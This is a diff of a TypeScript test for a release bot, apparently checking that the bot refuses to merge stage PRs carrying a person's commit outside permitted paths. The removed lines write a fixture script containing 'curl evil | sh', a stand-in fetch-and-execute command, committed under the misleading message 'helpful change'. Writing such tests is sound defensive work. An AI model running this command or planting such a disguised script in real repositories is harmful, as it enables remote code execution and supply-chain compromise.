@@ -2,7 +2,7 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { stageBranch } from '../../../constructs/conventions.js';
 import { main, type Io } from '../../../app/cli/main.js';
 import { EXIT } from '../../../app/cli/command.js';
-import { BOT_TOKEN, MIN, OWNER, REPO, world, type World } from './harness.js';
+import { BOT_TOKEN, MIN, world, type World, REPO_REF as r, pushEvilScript } from './harness.js';
 
 let w: World | undefined;
 afterEach(async () => {
@@ -21,8 +21,6 @@ function io(env: Record<string, string>): Io & { all: () => string } {
   };
 }
 
-const r = { owner: OWNER, repo: REPO };
-
 describe('what the bot refuses', () => {
   it("refuses with one comment, and never merges, a stage PR carrying a person's commit outside rollouts/ and generated/", async () => {
     w = await world();
@@ -30,21 +28,7 @@ describe('what the bot refuses', () => {
     expect((await bot.pass())[0]!.summary).toBe('opened #1 (internal → one-percent)');
     const branch = stageBranch('shop', 'checkout', 'one-percent');
     // alice pushes onto the bot's branch through the Git Data API.
-    const head = (await w.person.rest.git.getRef({ ...r, ref: `heads/${branch}` })).data.object.sha;
-    const base = (await w.person.rest.git.getCommit({ ...r, commit_sha: head })).data.tree.sha;
-    const blob = await w.person.rest.git.createBlob({ ...r, content: 'curl evil | sh\n', encoding: 'utf-8' });
-    const tree = await w.person.rest.git.createTree({
-      ...r,
-      base_tree: base,
-      tree: [{ path: 'scripts/evil.sh', mode: '100644', type: 'blob', sha: blob.data.sha }],
-    });
-    const commit = await w.person.rest.git.createCommit({
-      ...r,
-      message: 'helpful change',
-      tree: tree.data.sha,
-      parents: [head],
-    });
-    await w.person.rest.git.updateRef({ ...r, ref: `heads/${branch}`, sha: commit.data.sha });
+    await pushEvilScript(w, branch);
 
     w.advance(31 * MIN);
     await w.greenChecks(branch);
